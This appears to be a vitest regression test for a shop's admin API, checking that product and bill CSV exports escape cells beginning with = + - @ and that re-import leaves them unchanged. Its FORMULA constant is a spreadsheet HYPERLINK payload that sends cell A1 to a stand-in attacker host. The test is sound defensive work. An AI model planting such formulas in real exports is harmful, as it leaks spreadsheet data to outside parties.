import type { Bill, CsvImportRow } from '@shop/core';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { adminCall, adminUpload, signedInOwner } from '../test/admins.js';
import { useTestApp } from '../test/app.js';
import { sellableProduct } from '../test/shop-fixture.js';

// Issue 38: the bills CSV kept a cell that starts like a formula (= + - @) as text, the products CSV did not, so a
// product named '=HYPERLINK(…)' ran in the owner's spreadsheet. Both now go through core's csvCell.
const t = useTestApp();

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Sale")';

const rowsOf = (csv: string) => parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { columns: true });

describe('CSV formula cells (issue 38: the product CSV export did not escape them)', () => {
  it('keeps a product cell that starts with = + - @ as text, and reads it back unchanged on import', async () => {
    const owner = await signedInOwner(t);
    const product = await sellableProduct(t, { name: FORMULA, variants: false, stock: 4 });
    const exported = await adminCall(t.app, 'GET', '/api/admin/product/exportProducts', { asid: owner.asid });
    expect(exported.statusCode).toBe(200);
    const [row] = rowsOf(exported.body).filter((line) => line.id === product.productId);
    expect(row).toMatchObject({ name: `'${FORMULA}`, description: `'${FORMULA}: soft cotton.` });

    const imported = await adminUpload(
      t.app,
      '/api/admin/product/importProducts',
      [{ bytes: Buffer.from(exported.body), name: 'catalogue.csv', type: 'text/csv', field: 'file' }],
      { asid: owner.asid },
    );
    expect(imported.statusCode, imported.body).toBe(200);
    const result = imported.json<{ data: { results: CsvImportRow[] } }>().data.results.find((line) => line.productId === product.productId);
    expect(result).toMatchObject({ name: FORMULA, action: 'updated', changed: [] });
  });

  it('keeps the bills CSV to the same rule', async () => {
    const owner = await signedInOwner(t);
    const created = await adminCall(t.app, 'POST', '/api/admin/bill/createBill', {
      asid: owner.asid,
      body: { customerName: '@SUM(1+1)', items: [{ name: '-2+3 alteration', price: 10_000, quantity: 1 }] },
    });
    expect(created.statusCode, created.body).toBe(200);
    const bill = created.json<{ data: { bill: Bill } }>().data.bill;
    const csv = await adminCall(t.app, 'GET', '/api/admin/bill/exportBills?customer=sum', { asid: owner.asid });
    const [row] = rowsOf(csv.body).filter((line) => line.invoiceNumber === bill.invoiceNumber);
    expect(row).toMatchObject({ customerName: "'@SUM(1+1)", item: "'-2+3 alteration" });
  });
});
